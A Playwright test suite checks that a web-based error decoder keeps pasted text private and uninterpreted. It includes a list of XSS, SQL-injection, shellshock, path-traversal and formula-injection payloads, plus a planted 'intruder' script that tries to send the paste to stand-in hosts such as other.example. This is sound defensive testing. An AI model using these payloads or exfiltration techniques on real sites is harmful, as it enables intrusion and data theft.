import type { Page } from '@playwright/test';
import { FORMAT_SAMPLES } from '../../../src/domain/decode/tests/format-samples.ts';
import { LANGUAGES } from '../../../src/domain/language.ts';
import { createErrorBody, readExactText, getPageParts, paste, pasteInto, readClipboard, waitForRender, TEXTS } from '../../support/paste.ts';
import { expect, waitUntilInteractive, test } from '../../support/test.ts';
import { findTraces } from '../../support/traces.ts';

test.use({
  permissions: ['clipboard-read', 'clipboard-write'],
  // A recording of every step would cost a third of the run.
  trace: 'on-first-retry',
});

/** Hexadecimal, so that it can stand in a tracking ID as well. */
const CANARY = '5eedc0ffee5eedc0';
const ID = `|76aa01bc-${CANARY}.`;

/** Texts in which the canary stands wherever a text can hold something. */
const PASTES = [
  createErrorBody('ResourceNotFound', `Machine ${CANARY} was not found`, ID),
  createErrorBody(`Code${CANARY}`, `Message ${CANARY}`, ID),
  `Error ${CANARY}: HTTP 403 from GET https://api.security.microsoft.com/api/machines/${CANARY}`,
  [1, 2, 3].map((at) => `2026-11-10 09:00:0${at} ERROR ${createErrorBody('Forbidden', `${at} ${CANARY}`, `|76aa01b${at}-${CANARY}.`)}`).join('\n'),
  `Nothing but prose with ${CANARY} in it.`,
  `<img src="/${CANARY}.png" onerror="location='/${CANARY}'"><a href="javascript:${CANARY}">${CANARY}</a>`,
];

const createText = (...codes: readonly number[]): string => String.fromCodePoint(...codes);

for (const language of LANGUAGES) {
  test(`a paste stays in the memory of its tab, in ${language}`, async ({ page, context }) => {
    const { box, result, heading, copyId, entries, clear } = getPageParts(page, language);
    const said: string[] = [];
    const asked: string[] = [];
    context.on('console', (message) => said.push(message.text()));
    context.on('request', (request) => asked.push([request.url(), JSON.stringify(request.headers()), request.postData()].join(' ')));
    await open(page, `/${language}/`);

    for (const text of PASTES) {
      await pasteInto(box, text);
      await expect(box).toHaveValue(text);
      await expect(result).toBeVisible();
      expect(await findTraces(page, CANARY)).toEqual([]);
    }
    await pasteInto(box, PASTES[3] ?? '');
    await entries.last().click();
    await expect(heading).toHaveText('403 Forbidden');
    await copyId.click();
    expect(await findTraces(page, CANARY)).toEqual([]);

    await page.getByRole('link', { name: TEXTS[language].nav.about, exact: true }).click();
    await expect(page.getByRole('heading', { level: 1 })).toHaveText(TEXTS[language].about.heading);
    expect(await page.content()).not.toContain(CANARY);
    await paste(page, PASTES[0] ?? '');
    await expect(heading).toHaveText('404 ResourceNotFound');
    expect(await findTraces(page, CANARY)).toEqual([]);

    await clear.click();
    await expect(result).toHaveCount(0);
    expect(await page.content()).not.toContain(CANARY);
    expect(await findTraces(page, CANARY)).toEqual([]);

    await pasteInto(box, PASTES[0] ?? '');
    await expect(result).toBeVisible();
    await page.reload();
    await waitUntilInteractive(page);
    await waitForRender(page);
    expect(await page.content()).not.toContain(CANARY);
    await expect(box).toHaveValue('');
    expect(await findTraces(page, CANARY)).toEqual([]);

    expect(await context.cookies()).toEqual([]);
    expect(asked.filter((request) => request.includes(CANARY))).toEqual([]);
    expect(said).toEqual([]);
  });
}

test('a paste is not kept for a reader who leaves and comes back', async ({ page }) => {
  const { box, result, undo } = getPageParts(page);
  await open(page, '/en/');
  await pasteInto(box, PASTES[0] ?? '');
  await expect(result).toBeVisible();
  // What a browser does with a page that it keeps; the browser of these tests keeps none.
  await page.evaluate(() => {
    dispatchEvent(new PageTransitionEvent('pagehide', { persisted: true }));
    dispatchEvent(new PageTransitionEvent('pageshow', { persisted: true }));
  });
  await expect(box).toHaveValue('');
  await expect(result.or(undo)).toHaveCount(0);
  expect(await page.content()).not.toContain(CANARY);
});

/** One text for every form that the decoder tells apart, with what is looked for in each: IDs, else a word of its own. */
const SHAPES = Object.entries(FORMAT_SAMPLES).map(([shape, { text }]) => {
  const ids = [...new Set(text.match(/[0-9a-f]{4,12}(?:-[0-9a-f]{4,16})+|[0-9a-f]{12,}/gi))];
  return ids.length === 0 ? { shape, text: `${text}\n${CANARY}`, needles: [CANARY] } : { shape, text, needles: ids };
});

for (const language of LANGUAGES) {
  test(`nothing of a text of any form leaves its tab, is kept, or comes back, in ${language}`, async ({ page, context }) => {
    test.slow();
    const { box, result, clear } = getPageParts(page, language);
    const said: string[] = [];
    const asked: string[] = [];
    context.on('console', (message) => said.push(message.text()));
    context.on('request', (request) => asked.push(decodeURIComponent([request.url(), JSON.stringify(request.headers()), request.postData()].join(' '))));
    await open(page, `/${language}/`);
    const traces: string[] = [];
    const look = async (shape: string, needles: readonly string[], when: string) => {
      for (const needle of needles) traces.push(...(await findTraces(page, needle)).map((place) => `${shape}, ${when}: ${needle} in ${place}`));
    };
    const lookEverywhere = async (shape: string, needles: readonly string[], when: string) => {
      await look(shape, needles, when);
      const content = `${await page.content()} ${await box.inputValue()}`;
      traces.push(...needles.filter((needle) => content.includes(needle)).map((needle) => `${shape}, ${when}: ${needle} on the page`));
    };

    for (const { shape, text, needles } of SHAPES) {
      await pasteInto(box, text);
      await expect(result).toBeVisible();
      await waitForRender(page);
      await look(shape, needles, 'pasted');
      await clear.click();
      await expect(result).toHaveCount(0);
      await lookEverywhere(shape, needles, 'after Clear');

      await pasteInto(box, text);
      await expect(result).toBeVisible();
      await page.evaluate(() => {
        dispatchEvent(new PageTransitionEvent('pagehide', { persisted: true }));
        dispatchEvent(new PageTransitionEvent('pageshow', { persisted: true }));
      });
      await expect(result).toHaveCount(0);
      await lookEverywhere(shape, needles, 'after leaving and coming back');
    }
    expect(traces).toEqual([]);

    await pasteInto(box, SHAPES.map(({ text }) => text).join('\n\n'));
    await expect(result).toBeVisible();
    await page.goto('about:blank');
    await page.goBack();
    await waitUntilInteractive(page);
    await waitForRender(page);
    for (const { shape, needles } of SHAPES) await lookEverywhere(shape, needles, 'after another page');
    await pasteInto(box, SHAPES.map(({ text }) => text).join('\n\n'));
    await expect(result).toBeVisible();
    await page.reload();
    await waitUntilInteractive(page);
    await waitForRender(page);
    for (const { shape, needles } of SHAPES) await lookEverywhere(shape, needles, 'after a reload');
    expect(traces).toEqual([]);
    const needles = SHAPES.flatMap((shape) => shape.needles);
    expect(asked.filter((request) => needles.some((needle) => request.includes(needle)))).toEqual([]);
    expect(await context.cookies()).toEqual([]);
    expect(said).toEqual([]);
  });
}

test('no request depends on what is pasted', async ({ page, context, baseURL }) => {
  const idle = await context.newPage();
  const before = recordRequests(idle);
  const after = recordRequests(page);
  await open(idle, '/en/');
  await open(page, '/en/');
  const { box, result, clear } = getPageParts(page);
  for (const text of PASTES) {
    await pasteInto(box, text);
    await expect(result).toBeVisible();
  }
  // Both fetch the whole site when the browser is idle; from then on they have asked for the same.
  await expect.poll(() => findDifferences(before, after), { timeout: 20_000 }).toEqual([]);
  expect(after.filter(({ url, method, hasBody }) => method !== 'GET' || hasBody || new URL(url).search !== '')).toEqual([]);
  expect(after.filter(({ url }) => new URL(url).origin !== new URL(baseURL ?? '').origin)).toEqual([]);

  const count = after.length;
  await clear.click();
  for (const text of PASTES) {
    await pasteInto(box, text);
    await expect(result).toBeVisible();
  }
  await waitForRender(page);
  expect(after.slice(count)).toEqual([]);
});

test.describe('hostile text', () => {
  const HOSTILE = [
    '<script>window.pwned = 1</script>',
    '"><script>window.pwned = 1</script>',
    '</textarea><script>window.pwned = 1</script>',
    '</pre></bdi></section><img src=x onerror="window.pwned = 1">',
    "<img src=x onerror='window.pwned = 1'>",
    '<svg/onload=window.pwned=1>',
    '<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>',
    '<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1>',
    '<iframe srcdoc="<script>parent.pwned = 1</script>"></iframe>',
    '<object data="data:text/html,<script>parent.pwned = 1</script>"></object>',
    '<meta http-equiv="refresh" content="0;url=https://other.example/">',
    '<base href="https://other.example/">',
    '<link rel="stylesheet" href="https://other.example/x.css">',
    '<style>* { background: url(https://other.example/x.gif) }</style>',
    '<form action="https://other.example/"><input name="a" autofocus></form>',
    '<a href="javascript:window.pwned=1">click</a>',
    '<details open ontoggle=window.pwned=1>',
    '<template><script>window.pwned = 1</script></template>',
    '<p id="root" style="position:fixed">p</p>',
    '<!-- --><b>bold</b><!--',
    '<![CDATA[<script>window.pwned = 1</script>]]>',
    '&lt;script&gt;window.pwned = 1&lt;/script&gt;',
    '&#60;img src=x onerror=window.pwned=1&#62;',
    '%3Cscript%3Ewindow.pwned%3D1%3C/script%3E',
    'javascript:window.pwned=1//',
    'JaVaScRiPt:window.pwned=1',
    'data:text/html,<script>window.pwned = 1</script>',
    '\u003cscript\u003ewindow.pwned = 1\u003c/script\u003e',
    String.raw`\u003cscript\u003ewindow.pwned = 1\u003c/script\u003e`,
    '\'; window.pwned = 1; //',
    '`${window.pwned = 1}`',
    '${7*7} {{7*7}} #{7*7} <%= 7*7 %>',
    '{{summary}} $t(paste.clear) $t(result.label, {"count": 1})',
    '$& $1 $$ $` $\'',
    '%s %d %n %x %p',
    '__proto__ constructor toString hasOwnProperty',
    'undefined null NaN Infinity true -0 1e400 0x0',
    '../../../../etc/passwd%00.png',
    "' OR 1=1; DROP TABLE codes; --",
    '() { :; }; echo pwned',
    '=cmd|\' /C calc\'!A0',
    `a${createText(0x202e)}gpj.exe${createText(0x202c)} ${createText(0x2066)}isolated${createText(0x2069)} ${createText(0x200f, 0x200e, 0x061c)}`,
    `${createText(0x202a, 0x202b, 0x202d, 0x2067, 0x2068)}never closed`,
    `zero${createText(0x200b)}width${createText(0x200c)}joined${createText(0x200d)}word${createText(0x2060)}mark${createText(0xfeff)}soft${createText(0x00ad)}`,
    `line${createText(0x2028)}paragraph${createText(0x2029)}next${createText(0x0085)}tab\tend`,
    `tags ${createText(0xe0041, 0xe0042, 0xe007f)} variation ${createText(0x2764, 0xfe0f)}`,
    'مرحبا بالعالم ‏שלום עולם',
    `Z${createText(0x0351, 0x0352, 0x0353, 0x0354, 0x0355)}algo e${createText(0x0301)} 👩‍👩‍👧‍👦 🇹🇼 𠜎𠜱 ﷽ ꧅`,
    `${createText(0xfffe)} ${createText(0xffff)} ${createText(0xfffd)} ${createText(0xe000)} ${createText(0x10ffff)}`,
    '＜ｓｃｒｉｐｔ＞ window.pwned＝１',
    'Рesource with a Cyrillic letter',
  ] as const;

  test('is shown to the letter and never interpreted', async ({ page, context }) => {
    test.slow();
    const { box, result, trackingId, shown, live } = getPageParts(page);
    const happened: string[] = [];
    page.on('dialog', (dialog) => {
      happened.push(`dialog ${dialog.message()}`);
      void dialog.dismiss();
    });
    page.on('download', () => happened.push('download'));
    context.on('page', (opened) => happened.push(`window ${opened.url()}`));
    await open(page, '/en/');
    page.on('framenavigated', (frame) => happened.push(`navigation ${frame.url()}`));
    let number = 0;
    const pasteWithId = async (make: (id: string) => string) => {
      number += 1;
      const id = `|76aa01bc-1f2e3d4c5b6a${number.toString(16).padStart(4, '0')}.`;
      await pasteInto(box, make(id));
      await expect(trackingId).toHaveText(id);
      await expect(page.getByText('What to do')).toBeVisible();
    };
    const asMessage = (text: string) => pasteWithId((id) => createErrorBody('NotFound', text, id));
    const aroundIt = (text: string) => pasteWithId((id) => `${text}\n${createErrorBody('NotFound', 'plain', id)}`);
    await aroundIt('plain');
    const plain = [...(await listElementKinds(page))];
    await asMessage('plain');
    plain.push(...(await listElementKinds(page)));
    const title = await page.title();
    const expectAsPasted = async (text: string) => {
      expect(await readExactText(shown), text).toBe(await readClipboard(page));
      expect((await listElementKinds(page)).filter((kind) => !plain.includes(kind)), text).toEqual([]);
    };

    for (const text of HOSTILE) {
      await aroundIt(text);
      await expectAsPasted(text);
      await asMessage(text);
      await expectAsPasted(text);
      expect(await readExactText(result.locator('.says-message')), text).toBe(text);
    }

    const code = `<b>{{summary}}$t(paste.clear)&amp;`;
    await pasteInto(box, createErrorBody(code, 'plain', ID));
    await expect(result.getByRole('heading').first()).toHaveText(code);
    await expect(live).toContainText(code);

    expect(happened).toEqual([]);
    expect(await page.title()).toBe(title);
    await expect(page).toHaveURL('/en/');
    expect(await page.evaluate(() => 'pwned' in window)).toBe(false);
  });

  test('with halves of characters in it is read and shown', async ({ page }) => {
    const { box, result, heading, shown } = getPageParts(page);
    await open(page, '/en/');
    const [high, low] = ['\ud83d', '\ude00'];
    // No clipboard keeps a half of a character; a page that is made to can.
    const pasteHalves = (text: string) =>
      box.evaluate((field, pasted) => {
        const clipboardData = new DataTransfer();
        const event = new ClipboardEvent('paste', { clipboardData, bubbles: true, cancelable: true });
        Object.defineProperty(clipboardData, 'getData', { value: () => pasted });
        field.dispatchEvent(event);
      }, text);
    const text = `{"error":{"code":"Not${low}Known","message":"${low}${high} cut ${high}","target":"${ID}"}}${high}`;
    await pasteHalves(text);
    await expect(heading).toContainText('Known');
    await expect(result.locator('mark').first()).toHaveText(ID);
    expect((await readExactText(shown)).length).toBe(text.length);
    // Cut in the middle of a character, where the box ends.
    await pasteHalves(`${'x'.repeat(19_999)}${high}${low}${createErrorBody('Forbidden', 'Forbidden', ID)}`);
    await expect(heading).toHaveText('403 Forbidden');
    expect((await box.inputValue()).length).toBe(20_000);
  });
});

test.describe('a text without measure', () => {
  test('is read up to the limit, and no more than a screenful of it is shown', async ({ page }) => {
    test.slow();
    const { box, result, heading, trackingId, shown } = getPageParts(page);
    await open(page, '/en/');
    const line = '2026-11-10 09:00:00 INFO nothing to see here, move along please\n';
    const error = createErrorBody('Forbidden', 'Forbidden', ID);
    for (const [name, text, title] of [
      ['1 MB around an error', line.repeat(8000) + error + line.repeat(8000), '403 Forbidden'],
      ['1 MB in one line', `${'x'.repeat(500_000)}${error}${'y'.repeat(500_000)}`, '403 Forbidden'],
      ['10,000 open brackets', `${'['.repeat(10_000)}${error}`, '403 Forbidden'],
      ['10,000 open brackets and nothing else', '['.repeat(10_000), TEXTS.en.nothing.title],
      ['6,000 levels', `${'{"a":'.repeat(6000)}${error}${'}'.repeat(6000)}`, '403 Forbidden'],
      ['100,000 quotes', '"'.repeat(100_000), TEXTS.en.nothing.title],
      ['100,000 backslashes', `${'\\'.repeat(100_000)}${error}`, '403 Forbidden'],
      ['as much as is read', `${error}${' '.repeat(2_000_000 - error.length)}`, '403 Forbidden'],
    ] as const) {
      await test.step(name, async () => {
        await pasteInto(box, text);
        await expect(heading).toHaveText(title, { timeout: 20_000 });
        if (title === '403 Forbidden') expect(await readExactText(trackingId)).toBe(ID);
        if (text.length > 100_000 && title === '403 Forbidden') expect((await readExactText(shown)).length).toBeLessThan(10_000);
        expect((await box.inputValue()).length).toBeLessThanOrEqual(20_000);
        await pasteInto(box, ' ');
        await expect(result).toHaveCount(0);
      });
    }
  });

  test('is refused above the limit, with the numbers', async ({ page }) => {
    const { box, result, clear } = getPageParts(page);
    await open(page, '/en/');
    await pasteInto(box, `${CANARY} `.repeat(588_236).slice(0, 10_000_001));
    const alert = page.getByRole('alert');
    await expect(alert).toHaveText(TEXTS.en.paste.tooLong.replace('{{length}}', '10,000,001').replace('{{limit}}', '10,000,000'));
    await expect(result).toHaveCount(0);
    expect(await findTraces(page, CANARY)).toEqual([]);
    await clear.click();
    await expect(alert).toHaveCount(0);
    expect(await page.content()).not.toContain(CANARY);
    await pasteInto(box, createErrorBody('Forbidden', 'Forbidden', ID));
    await expect(result).toBeVisible();
  });
});

for (const language of LANGUAGES) {
  test(`the box gives its text to no checker, translator, form or session, in ${language}`, async ({ page }) => {
    await open(page, `/${language}/`);
    const { box } = getPageParts(page, language);
    const attributes = { spellcheck: 'false', autocomplete: 'off', autocapitalize: 'off', autocorrect: 'off', translate: 'no', 'data-gramm': 'false' };
    for (const [name, value] of Object.entries(attributes)) await expect(box).toHaveAttribute(name, value);
    expect(await box.evaluate((field) => [field.hasAttribute('name'), field.closest('form') !== null])).toEqual([false, false]);
    await pasteInto(box, createErrorBody('Forbidden', 'Forbidden', ID));
    await expect(getPageParts(page, language).shown).toHaveAttribute('translate', 'no');
  });
}

test.describe('code that got into the page', () => {
  test.use({ allowedFaults: [/^policy violation|Content Security Policy|Trusted/] });

  /** Runs as a script of the site itself, the worst case, and tries to carry the paste off. */
  const intruder = `
    const carried = (window.carried = []);
    const text = () => encodeURIComponent(document.getElementById('paste-box').value);
    const ways = {
      eval: () => eval('1'),
      Function: () => new Function('return 1')(),
      innerHTML: () => { document.body.lastElementChild.innerHTML = '<i>x</i>'; },
      'inline script': () => {
        const script = document.createElement('script');
        script.textContent = 'window.carried.push("ran")';
        document.body.append(script);
      },
      'document.write': () => document.write('<i>x</i>'),
      fetch: () => fetch('/leak?fetch=' + text()),
      'fetch elsewhere': () => fetch('https://other.example/leak?' + text(), { mode: 'no-cors' }),
      XMLHttpRequest: () => new Promise((resolve, reject) => {
        const request = new XMLHttpRequest();
        request.open('POST', '/leak?xhr');
        request.onload = resolve;
        request.onerror = reject;
        request.send(text());
      }),
      EventSource: () => new Promise((resolve, reject) => {
        const source = new EventSource('/leak?events=' + text());
        source.onopen = resolve;
        source.onerror = () => { source.close(); reject(); };
      }),
      WebSocket: () => new Promise((resolve, reject) => {
        const socket = new WebSocket('ws://' + location.host + '/leak?socket=' + text());
        socket.onopen = resolve;
        socket.onerror = reject;
      }),
      worker: () => new Worker('/leak?worker=' + text()),
      'script elsewhere': () => loaded('script', 'src', 'https://other.example/leak.js?'),
      'image elsewhere': () => loaded('img', 'src', 'https://other.example/leak.gif?'),
      'style elsewhere': () => loaded('link', 'href', 'https://other.example/leak.css?', { rel: 'stylesheet' }),
      'frame': () => loaded('iframe', 'src', '/leak?frame='),
      'object': () => loaded('object', 'data', '/leak?object='),
    };
    function loaded(tag, attribute, address, more = {}) {
      return new Promise((resolve, reject) => {
        const element = Object.assign(document.createElement(tag), more);
        element.addEventListener('load', resolve);
        element.addEventListener('error', reject);
        document.addEventListener('securitypolicyviolation', reject, { once: true });
        element.setAttribute(attribute, address + text());
        document.body.append(element);
      });
    }
    // Not called from outside: what a browser test evaluates is free of the policy.
    setInterval(async () => {
      if (window.intrusion !== 'begin') return;
      window.intrusion = 'under way';
      navigator.sendBeacon('/leak?beacon', text());
      for (const [way, go] of Object.entries(ways)) {
        try {
          await go();
          carried.push(way);
        } catch {}
      }
      window.intrusion = 'over';
    }, 20);
  `;

  test('cannot run from markup and cannot send the paste anywhere', async ({ page }) => {
    const leaks: string[] = [];
    await page.route('**/intruder.js', (route) => route.fulfill({ contentType: 'text/javascript', body: intruder }));
    await page.route('**/leak**', async (route) => {
      leaks.push(route.request().url());
      await route.fulfill({ body: '' });
    });
    await page.route('**/en/', async (route) => {
      const response = await route.fetch();
      const planted =
        '<script>window.planted = 1</script><img src="/favicon.svg" onload="window.planted = 1" alt=""><script src="/intruder.js"></script>';
      await route.fulfill({ response, body: (await response.text()).replace('</body>', `${planted}</body>`) });
    });
    await open(page, '/en/');
    await pasteInto(getPageParts(page).box, PASTES[0] ?? '');
    await expect(getPageParts(page).result).toBeVisible();

    await page.evaluate(() => Object.assign(window, { intrusion: 'begin' }));
    await expect.poll(() => page.evaluate(() => Reflect.get(window, 'intrusion'))).toBe('over');
    expect(await page.evaluate(() => Reflect.get(window, 'carried'))).toEqual([]);
    expect(leaks).toEqual([]);
    expect(await page.evaluate(() => 'planted' in window)).toBe(false);
    await expect(getPageParts(page).result).toBeVisible();
  });
});

async function open(page: Page, path: string): Promise<void> {
  await page.goto(path);
  await waitUntilInteractive(page);
}

interface RequestRecord {
  readonly url: string;
  readonly method: string;
  readonly hasBody: boolean;
}

/** What a page asks for from now on. */
function recordRequests(page: Page): readonly RequestRecord[] {
  const requests: RequestRecord[] = [];
  page.on('request', (request) => {
    requests.push({ url: request.url(), method: request.method(), hasBody: request.postData() !== null });
  });
  return requests;
}

function findDifferences(one: readonly RequestRecord[], other: readonly RequestRecord[]): readonly string[] {
  const urls = new Set(one.map(({ url }) => url));
  const others = new Set(other.map(({ url }) => url));
  return [...urls].filter((url) => !others.has(url)).concat([...others].filter((url) => !urls.has(url)));
}

/** Every kind of element and attribute that the page is made of. */
async function listElementKinds(page: Page): Promise<readonly string[]> {
  return page.evaluate(() => [
    ...new Set(
      [...document.querySelectorAll('*')].flatMap((element) => [
        element.localName,
        ...[...element.attributes].map(({ name }) => `${element.localName}[${name}]`),
      ]),
    ),
  ]);
}
